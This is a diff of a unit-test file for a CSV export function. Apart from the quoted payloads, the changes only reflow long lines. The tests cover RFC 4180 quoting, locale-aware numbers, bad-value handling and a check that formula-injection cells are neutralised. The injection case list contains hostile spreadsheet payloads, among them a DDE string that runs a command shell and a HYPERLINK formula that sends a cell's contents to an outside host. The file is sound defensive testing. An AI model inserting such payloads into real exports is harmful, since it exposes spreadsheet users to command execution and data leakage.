@@ -57,7 +57,10 @@ describe('writeCsvFile: RFC 4180 round trip', () => {
 
   it('quotes only fields that need it, doubles quotes and leaves no trailing delimiter', async () => {
     const out = join(dir, 'quoting.csv')
-    await writeCsvFile(out, TEXT_COLUMNS, [{ name: 'say "hi"', count: 3, ratio: 0.5 }, { name: 'a,b' }, { name: 'ok' }], { delimiter: ',', bom: false })
+    await writeCsvFile(out, TEXT_COLUMNS, [{ name: 'say "hi"', count: 3, ratio: 0.5 }, { name: 'a,b' }, { name: 'ok' }], {
+      delimiter: ',',
+      bom: false,
+    })
     expect(await readFile(out, 'utf8')).toBe('Name,Count,Ratio\r\n"say ""hi""",3,0.5\r\n"a,b",,\r\nok,,\r\n')
   })
 
@@ -71,12 +74,26 @@ describe('writeCsvFile: RFC 4180 round trip', () => {
 })
 
 describe('writeCsvFile: formula injection (OWASP, CWE-1236)', () => {
-  const cases = ['=1+2";=1+2', '@SUM(1+1)', "+cmd|' /C calc'!A0", '=HYPERLINK("http://x?"&A1)', '\tleading tab', '-2+3', '\rcr first', '\nlf first']
+  const cases = [
+    '=1+2";=1+2',
+    '@SUM(1+1)',
+    "+cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x?"&A1)',
+    '\tleading tab',
+    '-2+3',
+    '\rcr first',
+    '\nlf first',
+  ]
 
   for (const delimiter of [',', ';'] as const) {
     it(`prefixes and quotes every dangerous text cell with "${delimiter}"`, async () => {
       const out = join(dir, 'injection.csv')
-      await writeCsvFile(out, TEXT_COLUMNS, cases.map((name) => ({ name })), { delimiter })
+      await writeCsvFile(
+        out,
+        TEXT_COLUMNS,
+        cases.map((name) => ({ name })),
+        { delimiter },
+      )
       const back = await readCsv(out, delimiter)
       expect(back.rows.map((row) => row[0])).toEqual(cases.map((text) => `'${text}`))
       // Each case is one quoted field: nothing after an embedded delimiter becomes a cell of its own.
@@ -86,9 +103,20 @@ describe('writeCsvFile: formula injection (OWASP, CWE-1236)', () => {
 
   it('keeps numbers the app produces as numbers, negative ones included', async () => {
     const out = join(dir, 'numbers.csv')
-    await writeCsvFile(out, TEXT_COLUMNS, [{ name: '-3', count: -3, ratio: -1.5 }, { name: 'x', count: 0, ratio: -0.25 }], { locale: 'de' })
+    await writeCsvFile(
+      out,
+      TEXT_COLUMNS,
+      [
+        { name: '-3', count: -3, ratio: -1.5 },
+        { name: 'x', count: 0, ratio: -0.25 },
+      ],
+      { locale: 'de' },
+    )
     const back = await readCsv(out, ';')
-    expect(back.rows).toEqual([["'-3", '-3', '-1,5'], ['x', '0', '-0,25']])
+    expect(back.rows).toEqual([
+      ["'-3", '-3', '-1,5'],
+      ['x', '0', '-0,25'],
+    ])
     expect(back.text).toContain(`"'-3";-3;-1,5\r\n`)
   })
 
@@ -166,8 +194,21 @@ describe('writeCsvFile: bad values never take down the export', () => {
       { header: 'N', kind: 'integer', value: (row) => row.n },
       { header: 'T', kind: 'timestamp', value: (row) => row.t },
     ]
-    await writeCsvFile(out, columns, [{ n: '=2', t: 'not a time' }, { n: Number.NaN, t: new Date(Number.NaN) }, { n: Infinity, t: null }], { delimiter: ',' })
-    expect((await readCsv(out, ',')).rows).toEqual([["'=2", 'not a time'], ['', ''], ['', '']])
+    await writeCsvFile(
+      out,
+      columns,
+      [
+        { n: '=2', t: 'not a time' },
+        { n: Number.NaN, t: new Date(Number.NaN) },
+        { n: Infinity, t: null },
+      ],
+      { delimiter: ',' },
+    )
+    expect((await readCsv(out, ',')).rows).toEqual([
+      ["'=2", 'not a time'],
+      ['', ''],
+      ['', ''],
+    ])
   })
 })
 
@@ -208,7 +249,9 @@ describe('writeCsvFile: temporary file and rename', () => {
 
   it('rejects with a sentence naming the path when the folder does not exist', async () => {
     const out = join(dir, 'missing', 'export.csv')
-    await expect(writeCsvFile(out, TEXT_COLUMNS, [{ name: 'a' }], {})).rejects.toThrow(/missing.export\.csv failed after .* and was not written: ENOENT/)
+    await expect(writeCsvFile(out, TEXT_COLUMNS, [{ name: 'a' }], {})).rejects.toThrow(
+      /missing.export\.csv failed after .* and was not written: ENOENT/,
+    )
     expect(await readdir(dir)).toEqual([])
   })
 
